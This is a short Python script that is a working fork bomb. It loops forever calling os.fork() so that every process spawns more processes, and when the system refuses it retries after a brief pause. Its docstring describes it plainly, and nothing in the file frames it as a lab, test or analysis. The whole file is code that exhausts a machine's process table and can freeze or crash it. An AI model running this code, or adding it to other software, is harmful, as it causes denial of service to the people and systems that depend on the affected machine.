"""Starts processes, each of which starts processes, until no more are allowed; then tries again."""
import os, time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
